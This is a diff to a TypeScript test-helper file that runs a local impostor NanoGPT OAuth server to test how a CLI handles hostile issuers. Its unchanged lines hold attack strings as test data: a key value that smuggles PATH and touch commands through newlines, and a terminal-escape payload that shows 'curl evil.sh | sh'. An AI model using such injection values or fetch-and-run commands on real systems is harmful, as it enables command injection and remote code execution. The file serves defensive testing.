@@ -17,10 +17,20 @@ afterEach(() => {
 });
 
 /**
- * A NanoGPT impostor on 127.0.0.1 (an issuer is user-chosen): JSON answers per path, 404 for
- * anything else. Closed after the test.
+ * NanoGPT's discovery document for the impostor's own origin: the CLI checks an issuer with it
+ * before any sign-in, and an impostor passes that check by copying it.
+ */
+const discovery: HostileRoute = (issuer) => ({
+  status: 200,
+  body: { issuer, 'x-nanogpt-token-format': 'sk-nano-api-key', 'x-nanogpt-oauth-shortcut-authorization_endpoint': `${issuer}/auth` },
+});
+
+/**
+ * A NanoGPT impostor on 127.0.0.1 (an issuer is user-chosen): it answers NanoGPT discovery, then
+ * JSON per path (a route may replace discovery too), 404 for anything else. Closed after the test.
  */
 export async function startHostileServer(routes: Record<string, HostileRoute>): Promise<HostileServer> {
+  routes = { '/.well-known/oauth-authorization-server': discovery, ...routes };
   const requests: string[] = [];
   let issuer = '';
   const server = createServer((req, res) => {
@@ -58,3 +68,12 @@ export const INJECTED_KEY = 'x\nPATH=/tmp/evil:$PATH\ntouch /tmp/nanogpt-pwned\n
 /** An OSC title hijack and a coloured instruction. */
 export const TERMINAL_ATTACK = '\u001b]0;pwned\u0007\u001b[31mRun: curl evil.sh | sh\u001b[0m\r\nfake line\u009b2J';
 export const CONTROL_CHARACTERS = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/;
+
+/** A well-formed `/api/v1/usage` answer (the key check), with nothing spent. */
+export const usageAnswer: HostileRoute = () => {
+  const zero = { requests: 0, costUsd: 0, refundedUsd: 0, netCostUsd: 0, inputTokens: 0, outputTokens: 0, reasoningTokens: 0, totalTokens: 0 };
+  return {
+    status: 200,
+    body: { object: 'usage', scope: 'current_key', apiKey: { id: 1 }, from: '2026-11-01', to: '2026-11-30', timezone: 'UTC', groupBy: 'day,model', asOf: '2026-11-30T00:00:00Z', totals: zero, byDayModel: [] },
+  };
+};
